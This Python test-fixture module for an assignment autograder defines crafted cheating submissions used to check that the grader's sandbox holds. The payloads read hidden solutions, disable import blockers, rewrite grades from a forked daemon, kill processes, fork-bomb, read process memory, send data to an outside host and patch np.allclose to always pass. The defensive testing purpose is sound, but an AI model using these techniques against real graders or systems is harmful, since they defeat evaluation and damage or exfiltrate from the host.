"""Crafted dishonest or careless submissions of the "ps1" assignment: one per kind of attack on
the grader. Each puts its attack in ``iou_loops`` (the test no other test depends on) and returns
the right answer only if the attack worked (else a wrong one, or it raises), so a test can assert
that the attacked exercise earns nothing and every other test and student keeps its points.

Templates are filled with the places an attacker would aim at: ``{course}`` (the course root),
``{results}`` (the grader's output folder), ``{subs}`` (the submissions), ``{port}`` (a TCP
server of the test's on 127.0.0.1) and ``{marker}`` (a unique name for files in ``/tmp``).
"""

from __future__ import annotations

import textwrap

from . import builder

# the right answer, computed by the attacker's own loop (ps1's iou_loops) once the attack "worked"
RIGHT = ("\n    def _right():\n" + textwrap.indent(builder.IOU_LOOPS, "    ") +
         "\n    WRONG = np.full((len(boxes1), len(boxes2)), 0.25)\n")

ATTACKS = {
    # reading the answers from disk
    "reads_solutions": """
    import glob, json
    for path in glob.glob("{course}/solutions/*.ipynb") + glob.glob("{course}/**/ps1.ipynb",
                                                                      recursive=True):
        cells = json.load(open(path))["cells"]
        src = [("".join(c["source"])) for c in cells if "def iou_loops" in "".join(c["source"])]
        if src and "BEGIN SOLUTION" in src[0]:
            return _right()
    return WRONG""",
    "execs_reference_source": """
    import os, workshop
    for folder in ("{course}/workshop/reference", os.path.dirname(workshop.__file__) + "/reference"):
        try:
            ns = {{}}
            exec(open(folder + "/boxes.py").read(), ns)
            return ns["iou_numpy"](boxes1, boxes2)
        except OSError:
            continue
    return WRONG""",
    "reads_the_seed": """
    import json, os, glob
    for path in ["{results}/run.json", *glob.glob("{course}/workshop/grading/*.py")]:
        try:
            text = open(path).read()
        except OSError:
            continue
        if "seed" in text.lower():
            return _right()
    if any("GRADING" in k or "WORKSHOP" in k for k in os.environ):
        return _right()
    return WRONG""",
    # the import system, undone from inside
    "removes_the_import_blocker": """
    import sys
    saved = list(sys.meta_path)
    sys.meta_path[:] = [f for f in sys.meta_path if "Blocker" not in type(f).__name__]
    ns = {{}}
    try:
        exec("from workshop.refer" + "ence import boxes as mod", ns)
    except ImportError:
        pass
    finally:
        sys.meta_path[:] = saved
        for name in [n for n in sys.modules if "refer" + "ence" in n]:
            del sys.modules[name]
    return ns["mod"].iou_numpy(boxes1, boxes2) if "mod" in ns else WRONG""",
    # outliving the test
    "daemon_rewrites_grades": """
    import os, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(60):
                time.sleep(0.25)
                for name in ("{results}/grades.csv", "{results}/records/daemon_rewrites_grades/ps1/test_iou_loops.json"):
                    try:
                        open(name, "w").write("student,total\\nhacked,999\\n")
                    except OSError:
                        pass
            os._exit(0)
        os._exit(0)
    return WRONG""",
    # sharing through /tmp, between runs or students
    "tmp_writer": """
    import os
    open("/tmp/{marker}", "w").write("answers")
    os.makedirs("/tmp/{marker}-dir", exist_ok=True)
    return WRONG""",
    "tmp_reader": """
    import os, time
    for _ in range(20):
        if os.path.exists("/tmp/{marker}"):
            return _right()
        time.sleep(0.1)
    return WRONG""",
    # harming the grader or the others
    "kills_the_grader": """
    import os, signal
    for pid in {{os.getppid(), 1}}:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return WRONG""",
    "kills_siblings": """
    import os, signal
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    return WRONG""",
    "reads_grader_memory": """
    import os
    others = [p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid())]
    for pid in others + [str(os.getppid())]:
        try:
            with open(f"/proc/{{pid}}/mem", "rb") as f:
                f.seek(0x400000)
                f.read(16)
            return _right()
        except (OSError, ValueError, OverflowError):
            continue
    return WRONG""",
    "fork_bomb": """
    import os
    children = 0
    try:
        while children < 2000:
            if os.fork() == 0:
                import time
                time.sleep(30)
                os._exit(0)
            children += 1
    except OSError:
        pass
    return WRONG""",
    "fills_tmp": """
    import os
    try:
        for k in range(10000):
            with open(f"/tmp/fill{{k}}", "wb") as f:
                f.write(b"0" * (8 << 20))
    except OSError:
        pass
    return WRONG""",
    "writes_the_course": """
    import glob
    for path in glob.glob("{course}/workshop/reference/*.py") + glob.glob("{course}/solutions/*"):
        try:
            open(path, "a").write("# hacked\\n")
        except OSError:
            pass
    return WRONG""",
    "reads_another_submission": """
    import json
    try:
        cells = json.load(open("{subs}/honest/ps1.ipynb"))["cells"]
    except OSError:
        return WRONG
    return _right()""",
    # the network
    "phones_home": """
    import socket
    for host in ("127.0.0.1", "1.1.1.1"):
        try:
            s = socket.create_connection((host, {port}), timeout=2)
            s.sendall(b"the hidden inputs")
            s.close()
            return _right()
        except OSError:
            continue
    return WRONG""",
    # the result channel
    "floods_the_result_channel": """
    import os, zipfile, io
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        header = b"\\x93NUMPY\\x01\\x00v\\x00{{'descr': '<f8', 'fortran_order': False, 'shape': (700000000,), }}"
        header = header + b" " * (128 - len(header) - 1) + b"\\n"
        with z.open("c0_o.npy", "w", force_zip64=True) as f:
            f.write(header)
            chunk = b"\\0" * (1 << 24)
            for _ in range(4):
                f.write(chunk)
    payload = bomb.getvalue()
    summary = b'{{"cases": [{{"status": "ok", "kind": "one"}}], "status": "ran"}}'
    record = f"R {{len(summary)}} {{len(payload)}}\\n".encode() + summary + payload
    for fd in range(3, 64):
        try:
            os.write(fd, record)
        except OSError:
            pass
    try:
        for fd in range(3, 64):
            os.write(fd, b"\\0" * (300 << 20))
    except OSError:
        pass
    os._exit(0)""",
}


def attack_body(name: str, **places) -> str:
    return RIGHT + ATTACKS[name].format(**places)


def build_attack(name: str, **places):
    return builder.build({("iou", "loops"): attack_body(name, **places)})


def patches_numpy_in_a_solution_cell():
    """``np.allclose = ...`` at the top of one solution cell: that cell's test is the one that
    pays, not every cell that uses numpy."""
    nb = builder.build()
    for cell in nb.cells:
        if builder.nbk.nbgrader_meta(cell).get("grade_id") == "iou_loops":
            cell.source = "np.allclose = lambda *a, **k: True\n" + cell.source
    return nb


TARGET = "test_iou_loops"
